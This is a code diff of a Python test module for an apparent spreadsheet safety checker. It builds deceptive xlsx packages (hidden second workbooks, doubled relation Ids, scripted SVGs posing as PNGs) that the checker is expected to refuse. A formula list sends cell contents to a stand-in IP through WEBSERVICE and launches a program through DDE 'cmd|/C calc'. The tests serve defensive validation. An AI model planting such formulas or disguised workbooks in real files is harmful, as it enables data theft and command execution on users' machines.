@@ -45,7 +45,9 @@ def target(relation: str, place: str, mode: str = "", *, of: str = "xl/_rels/wor
     """Add a relation."""
 
     def change(parts: Parts) -> None:
-        told = f'<Relationship Id="rIdX" Type="{relation}" Target="{place}"{mode}/></Relationships>'.encode()
+        told = (
+            f'<Relationship Id="rIdX{len(parts.get(of, b""))}" Type="{relation}" Target="{place}"{mode}/></Relationships>'.encode()
+        )
         empty = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
         parts[of] = parts.get(of, empty).replace(b"</Relationships>", told)
 
@@ -98,6 +100,53 @@ def svg(inner: bytes) -> Change:
     """Add a picture that is drawn by lines."""
     head = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
     return part("xl/media/i.svg", head + inner + b"</svg>", "image/svg+xml")
+
+
+BOOK, RELATIONS, BEGIN = "xl/workbook.xml", "xl/_rels/workbook.xml.rels", "_rels/.rels"
+
+
+def other_book(parts: Parts) -> None:
+    """Add a second workbook with its own list of sheets, as whoever wants a reviewer to see other figures would."""
+    part("xl/book.xml", parts[BOOK], f"{MAIN}sheet.main+xml")(parts)
+    parts["xl/_rels/book.xml.rels"] = parts[RELATIONS]
+
+
+def that_opens(kind: bytes) -> Change:
+    """Let the file begin with another part than the workbook that is read, which is of another kind."""
+
+    def change(parts: Parts) -> None:
+        parts["xl/book.xml"] = parts[BOOK]
+        in_part(BEGIN, BOOK.encode(), b"xl/book.xml")(parts)
+        part("xl/book.xml", parts[BOOK], kind.decode())(parts)
+
+    return change
+
+
+def by_its_ending(parts: Parts) -> None:
+    """Add a second workbook whose kind its ending gives."""
+    kind = f'<Default Extension="wb" ContentType="{MAIN}sheet.main+xml"/><Override'.encode()
+    in_part("[Content_Types].xml", b"<Override", kind)(parts)
+    parts["xl/book.wb"] = b"<x/>"
+
+
+def relations_of(sheet: str) -> Change:
+    """Give two relations of a sheet one Id."""
+    kind = f"{OFFICE}hyperlink"
+    relation = f'<Relationship Id="a" Type="{kind}" Target="https://example.org" TargetMode="External"/>'
+    space = "http://schemas.openxmlformats.org/package/2006/relationships"
+    return lambda parts: parts.update(
+        {f"xl/worksheets/_rels/{Path(sheet).name}.rels": f'<Relationships xmlns="{space}">{relation * 2}</Relationships>'.encode()}
+    )
+
+
+def doubled(name: str, sign: bytes, old: bytes = b"", new: bytes = b"") -> Change:
+    """Repeat the element with a sign, changed."""
+
+    def change(parts: Parts) -> None:
+        element = next(e for e in re.findall(rb"<[^<>]*/>", parts[name]) if sign in e)
+        parts[name] = parts[name].replace(element, element + element.replace(old, new), 1)
+
+    return change
 
 
 EXTERNAL = ' TargetMode="External"'
@@ -168,6 +217,21 @@ REFUSED: dict[str, tuple[Change, str]] = {
     "a drawing that is called a photograph": (part("xl/media/i.png", b'\xef\xbb\xbf <svg xmlns="http://www.w3.org/2000/svg"><script/></svg>', "image/png"), "picture that"),
     "a packed drawing": (part("xl/media/i.emz", gzip.compress(b'<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>'), "image/x-emz"), "picture that"),
     "no list of kinds": (without_kinds, "Content_Types"),
+    "two workbooks": (other_book, "one and only workbook (xl/workbook.xml, xl/book.xml)"),
+    "a workbook that another program opens": (that_opens(b"application/xml"), "_rels/.rels: xl/workbook.xml is not"),
+    "no workbook by which the file begins": (in_part(BEGIN, b"/officeDocument\"", b"/other\""), "_rels/.rels: xl/workbook.xml is not"),
+    "two parts by which the file begins": (target(f"{OFFICE}officeDocument", "/xl/book.xml", of=BEGIN), "_rels/.rels: xl/workbook.xml is not"),
+    "a second workbook by its ending": (by_its_ending, "xl/book.wb"),
+    "two kinds of one part": (doubled("[Content_Types].xml", b'"/xl/styles.xml"'), "‘xl/styles.xml’ is listed twice"),
+    "two relations of one Id": (doubled(RELATIONS, b"worksheets/sheet2.xml", b"sheet2.xml", b"sheet3.xml"), "is listed twice"),
+    "two relations of a sheet of one Id": (of_sheet(relations_of), "‘a’ is listed twice"),
+    "a relation in other words": (in_part(RELATIONS, b"</Relationships>", b'<Other Id="o" Type="t" Target="styles.xml"/></Relationships>'), "in another form"),
+    "two lists of formats": (target(f"{OFFICE}styles", "/xl/styles2.xml"), "‘styles’, where there is one"),
+    "formats under a name that only others understand": (in_part(RELATIONS, b"styles.xml", b"styl%65s.xml"), "styl%65s.xml: missing"),
+    "formats that stand elsewhere": (in_part(RELATIONS, b"styles.xml\"", b'styles.xml" TargetMode="External"'), "missing"),
+    "sheets listed in two places": (in_part(BOOK, b"</sheets>", b'</sheets><extLst><sheets><sheet name="b" sheetId="9"/></sheets></extLst>'), "listed elsewhere"),
+    "a sheet that is listed without its part": (in_part(BOOK, b"</sheets>", b'<sheet name="b" sheetId="99"/></sheets>'), "missing"),
+    "two starts of counting days": (in_part(BOOK, b"<sheets>", b'<workbookPr/><workbookPr date1904="1"/><sheets>'), "‘workbookPr’, where there is one"),
 }  # fmt: skip
 FORMULAS = [
     "WEBSERVICE(\"http://192.0.2.1/?\"&A1)", "_xlfn.WEBSERVICE(A1)", "webservice (A1)", "cmd|'/C calc'!A0", "'cmd'|'/C calc'!A0", "RTD(\"a\",,\"b\")",
